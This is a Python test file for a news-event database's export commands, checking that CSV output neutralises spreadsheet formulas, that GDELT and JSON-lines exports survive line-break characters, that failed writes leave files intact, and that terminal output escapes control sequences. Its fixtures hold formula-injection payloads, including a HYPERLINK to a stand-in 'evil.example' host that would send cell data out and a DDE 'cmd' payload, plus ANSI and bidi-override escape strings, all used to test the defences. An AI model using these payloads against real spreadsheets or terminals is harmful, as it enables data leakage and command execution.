"""Exports as their readers see them: spreadsheets (formula cells neutralised in CSV only),
GDELT readers (one line of 61 fields per event, whatever the text holds), JSON-lines readers,
and a full disk (the destination is as it was, no temporary file is left). All on a real
database made by a real ingest, read back with pandas and pyarrow."""

import csv
import datetime as dt
import itertools
import json
import os
import sqlite3
import subprocess
import sys

import pandas
import pyarrow.parquet
import pytest

from communique.cli.terminal import printable
from communique.store.db import connect
from communique.store.export import (
    FLAT_COLUMNS,
    FORMATS,
    FORMULA_START,
    GDELT_COLUMNS,
    csv_cell,
    export,
    fraction_date,
)
from tests.conftest import ROOT, example_db

# Articles whose text starts like spreadsheet formulas, and whose URLs (SOURCEURL in GDELT)
# hold every character some reader takes for a line or field break.
DOCUMENTS = [
    {
        "id": "formula",
        "date": "2025-01-01",
        "url": "http://a.example/one\rtwo",
        "text": '=HYPERLINK("http://evil.example/?x="&A1,"click") Egypt condemned Israel.',
    },
    {
        "id": "minus",
        "date": "2024-12-31",
        "url": "http://b.example/\x0bx\x0cy\x1cz\x1d\x1e\x85w\u2028v\u2029u",
        "text": "Egypt condemned Israel.\r\n-Egypt criticised Turkey.",
    },
    {
        "id": "at",
        "date": "2025-12-31",
        "url": "http://c.example/\ttab\nnl",
        "text": "@SUM(1+1) Russia signed an agreement with Mali.",
    },
    {
        "id": "plus",
        "date": "2025-06-15",
        "url": 'http://d.example/"quoted"\\back',
        "text": "+1 France condemned Germany.",
    },
]
STRING_COLUMNS = [name for name, kind in FLAT_COLUMNS if kind == "string"]


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    folder = tmp_path_factory.mktemp("export")
    documents = folder / "formulas.jsonl"
    documents.write_text("".join(json.dumps(d) + "\n" for d in DOCUMENTS), encoding="utf-8")
    return example_db(folder / "events.db", documents)


def event_count(db) -> int:
    with sqlite3.connect(db) as connection:
        return connection.execute("SELECT COUNT(*) FROM events").fetchone()[0]


def copy_db(db, path, journal_mode=None):
    """A copy of ``db`` by SQLite's backup (the WAL's pages included)."""
    source, copy = sqlite3.connect(db), sqlite3.connect(path)
    source.backup(copy)
    if journal_mode:
        copy.execute(f"PRAGMA journal_mode = {journal_mode}")
    source.close()
    copy.close()
    return path


def run_cli(*args, cwd=None):
    return subprocess.run(
        [sys.executable, "-m", "communique.cli", *map(str, args)],
        capture_output=True,
        cwd=cwd or ROOT,
        timeout=600,
        check=False,
    )


def read_csv(path):
    return pandas.read_csv(path, dtype=str, keep_default_na=False)


# -- CSV: spreadsheet formulas ------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+1 France", "'+1 France"),
        ("-Egypt", "'-Egypt"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-\u0663", "'-\u0663"),
        # numbers stay numbers, whether typed or text: "-2.5" only ever evaluates to itself
        (-2.5, -2.5),
        ("-2.5", "-2.5"),
        ("+5", "+5"),
        ("-1e5", "-1e5"),
        ("-.5", "-.5"),
        (3, 3),
        ("Egypt = Israel", "Egypt = Israel"),
        ("", ""),
        (None, None),
        (True, True),
    ],
)
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


def test_csv_export_and_events_csv_neutralise_formulas_the_same_way(db, tmp_path):
    out = tmp_path / "events.csv"
    assert run_cli("export", "--db", db, "--format", "csv", "--out", out).returncode == 0
    assert (
        run_cli(
            "export", "--db", db, "--format", "parquet", "--out", tmp_path / "raw.parquet"
        ).returncode
        == 0
    )
    raw = pyarrow.parquet.read_table(tmp_path / "raw.parquet").to_pylist()  # text as stored
    exported = read_csv(out).set_index("id")
    assert len(exported) == len(raw) == event_count(db)
    starts = {
        row[column][0]
        for row in raw
        for column in STRING_COLUMNS
        if row[column] and row[column].startswith(FORMULA_START)
    }
    assert {"=", "@", "+", "-"} <= starts  # the data does hold formulas, so the guard is exercised
    for row in raw:
        for column in STRING_COLUMNS[1:]:
            cell = exported.at[row["id"], column]
            assert cell == ("" if row[column] is None else csv_cell(row[column]))
            assert not cell.startswith(FORMULA_START), (column, cell)
    assert any(s.startswith("'=HYPERLINK(") for s in exported["sentence"])
    numbers = pandas.read_csv(out)  # as a spreadsheet or pandas types it
    assert numbers["goldstein"].dtype == "float64" and (numbers["goldstein"] < 0).any()
    assert numbers["quad_class"].dtype == "int64"

    listed = run_cli("events", "--db", db, "--format", "csv", "--limit", "1000")
    assert listed.returncode == 0, listed.stderr
    (tmp_path / "listed.csv").write_bytes(listed.stdout)
    listed_frame = read_csv(tmp_path / "listed.csv").set_index("id")
    assert list(listed_frame.columns) == list(exported.columns)
    assert listed_frame.sort_index().equals(exported.sort_index())


def test_parquet_keeps_the_text_as_stored(db, tmp_path):
    """Parquet is typed data for programs, not a spreadsheet: no quote is added."""
    export(connect(db, readonly=True), "parquet", tmp_path / "events.parquet")
    sentences = list(pandas.read_parquet(tmp_path / "events.parquet")["sentence"])
    assert any(s.startswith("=HYPERLINK(") for s in sentences)
    assert not any(s.startswith("'") for s in sentences)


# -- GDELT -------------------------------------------------------------------------------


def test_gdelt_export_is_one_line_of_61_fields_per_event_whatever_the_text_holds(db, tmp_path):
    out = tmp_path / "events.tsv"
    assert run_cli("export", "--db", db, "--format", "gdelt", "--out", out).returncode == 0
    frame = pandas.read_csv(
        out, sep="\t", header=None, quoting=csv.QUOTE_NONE, dtype=str, keep_default_na=False
    )
    assert frame.shape == (event_count(db), len(GDELT_COLUMNS)) == (event_count(db), 61)
    assert len(out.read_text(encoding="utf-8").splitlines()) == event_count(db)
    urls = set(frame[60])
    assert "http://a.example/one two" in urls  # the \r, now a space
    assert "http://b.example/ x y z   w v u" in urls
    assert "http://c.example/ tab nl" in urls
    assert 'http://d.example/"quoted"\\back' in urls  # quotes and backslashes are data
    fractions = dict(zip(frame[1], frame[4]))
    assert fractions["20250101"] == "2025.0000"
    assert fractions["20241231"] == "2024.9973"
    assert fractions["20251231"] == "2025.9973"


@pytest.mark.parametrize(
    ("day", "fraction"),
    [
        ("2025-01-01", "2025.0000"),
        ("2025-12-31", "2025.9973"),
        ("2024-12-31", "2024.9973"),
        ("2024-02-29", "2024.1612"),
        ("2024-03-01", "2024.1639"),
    ],
)
def test_fraction_date(day, fraction):
    assert fraction_date(dt.date.fromisoformat(day)) == fraction


@pytest.mark.parametrize("year", [2024, 2025, 1900, 2000])
def test_fraction_date_stays_in_its_year_and_grows_every_day(year):
    days = [dt.date(year, 1, 1) + dt.timedelta(n) for n in range(366)]
    values = [float(fraction_date(day)) for day in days if day.year == year]
    assert all(year <= value < year + 1 for value in values)
    assert all(a < b for a, b in itertools.pairwise(values))


# -- PLOVER ------------------------------------------------------------------------------


def test_plover_lines_survive_line_separators_in_the_text(db, tmp_path):
    odd = copy_db(db, tmp_path / "odd.db")
    sentence = "Egypt\u2028condemned\x85Israel\u2029today."
    with sqlite3.connect(odd) as connection:  # a database is a file other tools write too
        connection.execute("UPDATE event_mentions SET sentence = ?", (sentence,))
    out = tmp_path / "events.jsonl"
    assert run_cli("export", "--db", odd, "--format", "plover", "--out", out).returncode == 0
    lines = out.read_text(encoding="utf-8").splitlines()
    assert len(lines) == event_count(db)
    assert all(json.loads(line)["text"] == sentence for line in lines)
    assert len(pandas.read_json(out, lines=True)) == event_count(db)


# -- atomic writes -----------------------------------------------------------------------

LIMIT = 1024  # bytes a file of the export subprocess may grow to (RLIMIT_FSIZE)
LIMITED = f"""
import resource, runpy, sys
resource.setrlimit(resource.RLIMIT_FSIZE, ({LIMIT}, {LIMIT}))
sys.argv = ["communique", *sys.argv[1:]]
runpy.run_module("communique.cli", run_name="__main__")
"""


@pytest.mark.parametrize(
    ("output_format", "old"),
    [
        ("csv", None),
        ("csv", b"old,export\n"),
        ("gdelt", b"old\n"),
        ("plover", None),
        ("parquet", b"old"),
    ],
)
def test_a_full_disk_leaves_the_destination_as_it_was(db, tmp_path, output_format, old):
    """A real write failure: the file size limit makes write() fail with EFBIG half way
    (Python ignores SIGXFSZ), as ENOSPC would on a full disk; root is limited too."""
    # Out of WAL, reading the database writes nothing (no -shm), so only the export can fail.
    folder = tmp_path / "out"
    folder.mkdir()
    source = copy_db(db, tmp_path / "plain.db", journal_mode="DELETE")
    complete = tmp_path / f"complete.{output_format}"
    export(connect(source, readonly=True), output_format, complete)
    assert complete.stat().st_size > LIMIT  # else the limit would not be reached
    out = folder / f"events.{output_format}"
    if old is not None:
        out.write_bytes(old)
    run = subprocess.run(
        [
            sys.executable,
            "-c",
            LIMITED,
            "export",
            "--db",
            source,
            "--format",
            output_format,
            "--out",
            out,
        ],
        capture_output=True,
        cwd=ROOT,
        timeout=600,
        check=False,
    )
    stderr = run.stderr.decode()
    assert run.returncode == 1, stderr
    assert "Traceback" not in stderr and "File too large" in stderr
    assert ("is as it was" if old else "nothing was written") in stderr
    assert sorted(os.listdir(folder)) == ([out.name] if old is not None else [])
    if old is not None:
        assert out.read_bytes() == old


def test_an_export_replaces_a_file_keeping_its_mode_and_leaves_no_temporary_file(db, tmp_path):
    out = tmp_path / "events.csv"
    out.write_text("old\n")
    out.chmod(0o640)
    assert export(connect(db, readonly=True), "csv", out) == event_count(db)
    assert out.stat().st_mode & 0o777 == 0o640
    assert len(read_csv(out)) == event_count(db)
    fresh = tmp_path / "fresh.jsonl"
    export(connect(db, readonly=True), "plover", fresh)
    umask = os.umask(0)
    os.umask(umask)
    assert fresh.stat().st_mode & 0o777 == 0o666 & ~umask
    assert sorted(os.listdir(tmp_path)) == ["events.csv", "fresh.jsonl"]


def test_a_database_error_half_way_leaves_the_destination_as_it_was(db, tmp_path):
    broken = copy_db(db, tmp_path / "broken.db")
    with sqlite3.connect(broken) as connection:  # the GDELT export reads articles per event
        connection.execute("DROP TABLE articles")
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "events.tsv"
    out.write_bytes(b"old\n")
    run = run_cli("export", "--db", broken, "--format", "gdelt", "--out", out)
    assert run.returncode == 1 and b"Traceback" not in run.stderr
    assert b"no such table: articles" in run.stderr
    assert out.read_bytes() == b"old\n"
    assert os.listdir(out.parent) == ["events.tsv"]


# -- the commands ------------------------------------------------------------------------


@pytest.mark.parametrize("output_format", FORMATS)
def test_export_to_a_missing_folder_is_a_usage_error_and_creates_nothing(
    db, tmp_path, output_format
):
    run = run_cli(
        "export",
        "--db",
        db,
        "--format",
        output_format,
        "--out",
        tmp_path / "missing" / "events.out",
    )
    assert run.returncode == 2
    assert b"does not exist" in run.stderr and b"Traceback" not in run.stderr
    assert os.listdir(tmp_path) == []


def test_export_over_the_database_itself_is_refused(db, tmp_path):
    copy = copy_db(db, tmp_path / "events.db")
    before = copy.read_bytes()
    run = run_cli("export", "--db", copy, "--format", "csv", "--out", copy)
    assert run.returncode == 2 and b"database itself" in run.stderr
    assert copy.read_bytes() == before


def test_a_file_that_is_not_a_database_is_a_message(tmp_path):
    bogus = tmp_path / "notes.db"
    bogus.write_text("not a database\n")
    for args in (
        ["events"],
        ["agreements"],
        ["export", "--format", "csv", "--out", tmp_path / "e.csv"],
    ):
        run = run_cli(*args, "--db", bogus)
        assert run.returncode == 2 and b"Traceback" not in run.stderr, run.stderr
        assert b"not a database" in run.stderr
    assert sorted(os.listdir(tmp_path)) == ["notes.db"]


# -- text for the terminal ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\x1b[2Jb", "a\\x1b[2Jb"),
        ("\x9b31m", "\\x9b31m"),
        ("x\u202eevil", "x\\u202eevil"),
        ("\u2066\u2069\u200e\u200f\u061c", "\\u2066\\u2069\\u200e\\u200f\\u061c"),
        ("bell\x07\x00\x7f", "bell\\x07\\x00\\x7f"),
        ("a\rb", "a\\x0db"),
        ("\udc80", "\\udc80"),
        ("\u2028", "\\u2028"),
        ("tab\tand\nnewline", "tab\tand\nnewline"),
        (
            "مرحبا 中文 e\u0301 \U0001f468\u200d\U0001f469",
            "مرحبا 中文 e\u0301 \U0001f468\u200d\U0001f469",
        ),
    ],
)
def test_printable(text, shown):
    assert printable(text) == shown


def test_tables_escape_what_would_drive_the_terminal(db, tmp_path):
    odd = copy_db(db, tmp_path / "odd.db")
    nasty = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202eevil\ttab\nline\r"
    with sqlite3.connect(odd) as connection:  # the cleaner drops most of these; other tools may not
        connection.execute("UPDATE event_mentions SET sentence = ?", (nasty + " Egypt.",))
        connection.execute("UPDATE agreements SET title = ?", (nasty + " Accord",))
    for args, columns in ((["events"], 8), (["agreements"], 6)):
        run = run_cli(*args, "--db", odd)
        assert run.returncode == 0, run.stderr
        out = run.stdout.decode("utf-8")
        assert out.count("\\x1b[2J") >= 1 and "\\x9b31m\\u202eevil tab line\\x0d" in out
        assert not any(ch in out for ch in "\x1b\x07\x9b\u202e\r")
        lines = out.splitlines()
        assert lines and all(len(line.split("\t")) == columns for line in lines)
